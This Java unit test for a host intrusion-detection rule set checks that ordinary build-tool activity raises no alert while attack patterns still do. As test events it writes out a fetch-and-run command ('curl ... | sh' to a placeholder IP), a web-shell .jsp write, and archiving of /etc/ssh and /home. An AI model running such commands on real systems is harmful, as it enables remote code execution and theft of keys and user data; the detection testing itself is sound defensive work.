package dev.vigil.rules;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;

import static dev.vigil.rules.TestEvents.CONTAINER;
import static dev.vigil.rules.TestEvents.exe;
import static dev.vigil.rules.TestEvents.exec;
import static dev.vigil.rules.TestEvents.sh;
import static dev.vigil.rules.TestEvents.write;
import static org.assertj.core.api.Assertions.assertThat;

/**
 * The default rules on an ordinary busy host (docs/rules.md, "Noise on an ordinary host"): what
 * the survey workload did that raised a default rule before the rules were tightened, as events
 * with the same binaries, command lines and parents, which must raise no rule now; and, next to
 * each tightening, the attack it must still catch.
 */
class HostNoiseTest {
    private static final RuleSet DEFAULTS = RuleSet.defaults();

    private static List<String> fired(RuleEvent e) {
        RuleEngine engine = new RuleEngine(DEFAULTS, new EvalContext(TestEvents.LOOKUP, null));
        List<String> names = new ArrayList<>();
        engine.evaluate(e, (rule, ev, ctx) -> names.add(rule.name()));
        return names;
    }

    private static final TestEvents.P MAVEN = exe("/usr/lib/jvm/temurin-25-jdk-amd64/bin/java", "-classpath",
            "/usr/share/maven/boot/plexus-classworlds-2.x.jar", "-Dmaven.home=/usr/share/maven",
            "org.codehaus.plexus.classworlds.launcher.Launcher", "-B", "-o", "install");

    /**
     * Seen in the survey (before: the rule named), benign: no default rule may fire on the host.
     * (The build container's shell still raises the container-only notice "Shell Spawned in
     * Container", which is about any shell in a container.)
     */
    static Stream<Arguments> benign() {
        return Stream.of(
                Arguments.of("Shell Spawned by Web Server", "Maven starts its surefire fork through /bin/sh -c",
                        exec(exe("/usr/bin/dash", "-c", "cd '/work/src/vigil-kernel' && '/usr/lib/jvm/temurin-25-jdk-amd64/bin/java' '-jar' "
                                + "'/work/src/vigil-kernel/target/surefire/surefirebooter-20261123083354232_3.jar'").argv0("/bin/sh").parent(MAVEN))),
                Arguments.of("Shell Spawned by Web Server", "a Java CI agent runs a build step script",
                        exec(exe("/usr/bin/bash", "-xe", "/tmp/ci-step1396035168539586242.sh").argv0("/bin/bash")
                                .parent(exe("/usr/lib/jvm/temurin-25-jdk-amd64/bin/java", "CiAgent.java")))),
                Arguments.of("Shell Spawned by Web Server", "a Java CI agent runs sh -c",
                        exec(exe("/usr/bin/dash", "-c", "uname -m; nproc").argv0("sh")
                                .parent(exe("/usr/lib/jvm/temurin-25-jdk-amd64/bin/java", "CiAgent.java")))),
                Arguments.of("Shell Spawned by Web Server", "npm runs a package script",
                        exec(exe("/usr/bin/dash", "-c", "mkdir -p dist && cp package.json dist/").argv0("sh")
                                .parent(exe("/usr/bin/node", "/usr/bin/npm", "run", "-s", "build")))),
                Arguments.of("Shell Spawned by Web Server", "Maven in a build container starts a shell",
                        exec(exe("/bin/sh", "-c", "make -C bpf").in(CONTAINER).parent(
                                exe("/opt/java/openjdk/bin/java", "-classpath", "/usr/share/maven/boot/plexus-classworlds-2.x.jar",
                                        "org.codehaus.plexus.classworlds.launcher.Launcher", "package").in(CONTAINER)))),
                Arguments.of("Execution From Hidden Directory", "python3 through pyenv's shim",
                        exec(exe("/root/.pyenv/versions/3.11.7/bin/python3.11", "/work/noise-load/py/job.py")
                                .argv0("/root/.pyenv/versions/3.11.7/bin/python3").parent(exe("/usr/bin/bash", "/root/.pyenv/libexec/pyenv")))),
                Arguments.of("Execution From Hidden Directory", "a user's pyenv python",
                        exec(exe("/home/alice/.pyenv/versions/3.12.1/bin/python3.12", "-m", "pytest"))),
                Arguments.of("Execution From Hidden Directory", "cargo from rustup in a home",
                        exec(exe("/home/alice/.rustup/toolchains/stable-x86_64-unknown-linux-gnu/bin/cargo", "build"))),
                Arguments.of("Sensitive Directory Archived", "tar of two inventory files below /etc",
                        exec(exe("/usr/bin/tar", "czf", "/work/noise-load/tmp/etc-config-backup.tgz", "/etc/hostname", "/etc/os-release"))));
    }

    @ParameterizedTest(name = "{0}: {1}")
    @MethodSource("benign")
    void benignHostWorkRaisesNoRule(String ruleBefore, String what, RuleEvent e) {
        List<String> fired = fired(e);
        assertThat(fired).as(what + " (raised \"" + ruleBefore + "\" before)").doesNotContain(ruleBefore);
        if (!what.contains("container")) assertThat(fired).as(what).isEmpty();
    }

    /** Next to each tightening, the attack it must still catch. */
    static Stream<Arguments> attacks() {
        return Stream.of(
                Arguments.of("Shell Spawned by Web Server", "a Java app in a container (java -jar) starts a shell, Log4Shell's shape",
                        exec(sh("curl -s http://203.0.113.9/x | sh").in(CONTAINER).parent(exe("/opt/java/openjdk/bin/java", "-jar", "/app/app.jar").in(CONTAINER)))),
                Arguments.of("Shell Spawned by Web Server", "node server in a container starts a shell",
                        exec(sh("id").in(CONTAINER).parent(exe("/usr/local/bin/node", "/srv/server.js").in(CONTAINER)))),
                Arguments.of("Shell Spawned by Web Server", "Tomcat on the host starts a shell",
                        exec(sh("id").parent(exe("/usr/lib/jvm/java-17-openjdk-amd64/bin/java", "-Dcatalina.home=/opt/tomcat",
                                "-classpath", "/opt/tomcat/bin/bootstrap.jar", "org.apache.catalina.startup.Bootstrap", "start")))),
                Arguments.of("Shell Spawned by Web Server", "a Spring Boot launcher on the host starts python",
                        exec(exe("/usr/bin/python3", "-c", "import os").parent(exe("/usr/bin/java", "-cp", "/app",
                                "org.springframework.boot.loader.launch.JarLauncher")))),
                Arguments.of("Web Shell Written by Web Server", "a JVM writes a .jsp (java stays a web server for writes)",
                        write(exe("/usr/bin/java", "-jar", "/app/app.jar").in(CONTAINER), "/usr/local/tomcat/webapps/ROOT/cmd.jsp")),
                Arguments.of("Execution From Hidden Directory", "a tool hidden in a dot directory of /tmp named like a toolchain",
                        exec(exe("/tmp/.pyenv/versions/x/agent"))),
                Arguments.of("Execution From Hidden Directory", "a tool in a dot directory of a home that is no toolchain",
                        exec(exe("/root/.config/.x/agent"))),
                Arguments.of("Sensitive Directory Archived", "tar of /etc (with -C)",
                        exec(exe("/bin/tar", "-C", "/etc", "-czf", "/tmp/e.tgz", "."))),
                Arguments.of("Sensitive Directory Archived", "tar of /etc/ssh",
                        exec(exe("/bin/tar", "czf", "/tmp/k.tgz", "/etc/ssh"))),
                Arguments.of("Sensitive Directory Archived", "zip of /home",
                        exec(exe("/usr/bin/zip", "-r", "/tmp/h.zip", "/home/"))));
    }

    @ParameterizedTest(name = "{0}: {1}")
    @MethodSource("attacks")
    void tighteningStillCatchesTheAttack(String rule, String what, RuleEvent e) {
        assertThat(fired(e)).as(what).contains(rule);
    }
}
